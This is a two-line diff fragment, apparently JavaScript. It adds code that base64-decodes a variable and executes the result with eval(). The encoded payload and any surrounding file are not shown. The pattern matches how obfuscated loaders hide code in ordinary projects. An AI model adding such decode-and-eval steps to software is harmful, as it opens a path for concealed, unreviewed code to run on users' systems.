@@ -1,0 +1,2 @@
+const code = atob(data)
+eval(code)
